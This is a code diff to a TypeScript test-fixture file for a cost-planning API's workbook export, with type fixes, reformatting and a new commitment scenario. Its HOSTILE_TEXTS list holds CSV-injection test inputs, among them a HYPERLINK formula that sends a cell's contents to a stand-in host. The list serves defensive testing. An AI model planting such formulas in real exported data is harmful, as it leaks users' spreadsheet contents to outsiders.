@@ -8,7 +8,7 @@
  * simulation; and user text that a spreadsheet would run as a formula, in every place a user can write text.
  */
 
-/** Text a spreadsheet would run as a formula (OWASP's triggers, reliability T6.1). */
+/** Text a spreadsheet would run as a formula (OWASP's CSV-injection triggers: `=`, `+`, `-`, `@`, tab). */
 export const HOSTILE_TEXTS = [
   '=HYPERLINK("http://x/?"&A1)',
   '+1+1',
@@ -24,7 +24,7 @@ export type Send = (
   method: 'GET' | 'POST' | 'PATCH',
   url: string,
   body?: unknown,
-) => Promise<{ status: number; json: () => any }>
+) => Promise<{ status: number; json: () => unknown }>
 
 export interface WorkbookScenario {
   name: string
@@ -164,8 +164,22 @@ export const WORKBOOK_SCENARIOS: WorkbookScenario[] = [
           tokenizerRatio: '1',
           dataResidencyMultiplier: '1.1',
           longContextBands: [
-            { thresholdTokens: '200000', input: '5.4', output: '20.25', cacheWrite5m: '6.75', cacheWrite1h: '10.8', cacheRead: '0.54' },
-            { thresholdTokens: '500000', input: '8.1', output: '27', cacheWrite5m: '10.125', cacheWrite1h: '16.2', cacheRead: '0.81' },
+            {
+              thresholdTokens: '200000',
+              input: '5.4',
+              output: '20.25',
+              cacheWrite5m: '6.75',
+              cacheWrite1h: '10.8',
+              cacheRead: '0.54',
+            },
+            {
+              thresholdTokens: '500000',
+              input: '8.1',
+              output: '27',
+              cacheWrite5m: '10.125',
+              cacheWrite1h: '16.2',
+              cacheRead: '0.81',
+            },
           ],
         },
         {
@@ -244,6 +258,32 @@ export const WORKBOOK_SCENARIOS: WorkbookScenario[] = [
       },
     },
   },
+  {
+    name: 'no lever, a one-month annual term',
+    portfolio: { name: 'no lever' },
+    workloads: [
+      {
+        ...base,
+        name: 'as it is',
+        model: 'claude-sonnet-4-5',
+        currentCacheHitRate: '0.5',
+        cacheablePrefixTokens: '2000',
+      },
+      {
+        ...base,
+        name: 'batched today',
+        model: 'claude-haiku-4-5',
+        currentBatchShare: '0.4',
+        userWaiting: true,
+      },
+    ],
+    scenario: {
+      name: 'commit now',
+      term: { start: '2028-02-29', months: 1 },
+      levers: [],
+      commitment: { structure: 'annual', discountTiers: [{ minCommit: '1000', discountRate: '0.1' }] },
+    },
+  },
 ]
 
 /** What a built scenario is: its portfolio and scenario ids, and the API paths of its plan. */
@@ -255,13 +295,18 @@ export interface BuiltScenario {
   workbook: string
 }
 
-function expect201(answer: { status: number; json: () => any }, what: string) {
-  if (answer.status !== 201) throw new Error(`${what} answered ${answer.status}: ${JSON.stringify(answer.json())}`)
-  return answer.json()
+function expect201(answer: { status: number; json: () => unknown }, what: string): { id: string } {
+  if (answer.status !== 201)
+    throw new Error(`${what} answered ${answer.status}: ${JSON.stringify(answer.json())}`)
+  return answer.json() as { id: string }
 }
 
 /** Creates a scenario's book, portfolio, workloads and scenario through the API. */
-export async function buildScenario(send: Send, scenario: WorkbookScenario, suffix = ''): Promise<BuiltScenario> {
+export async function buildScenario(
+  send: Send,
+  scenario: WorkbookScenario,
+  suffix = '',
+): Promise<BuiltScenario> {
   let bookId: string | undefined
   if (scenario.book) {
     const book = expect201(
@@ -287,7 +332,10 @@ export async function buildScenario(send: Send, scenario: WorkbookScenario, suff
   )
   const body = { ...scenario.scenario }
   if (body.priceBook === '$BOOK') body.priceBook = bookId
-  const created = expect201(await send('POST', `/v1/portfolios/${portfolio.id}/scenarios`, body), 'POST …/scenarios')
+  const created = expect201(
+    await send('POST', `/v1/portfolios/${portfolio.id}/scenarios`, body),
+    'POST …/scenarios',
+  )
   const path = `/v1/portfolios/${portfolio.id}/scenarios/${created.id}`
   return {
     name: scenario.name,
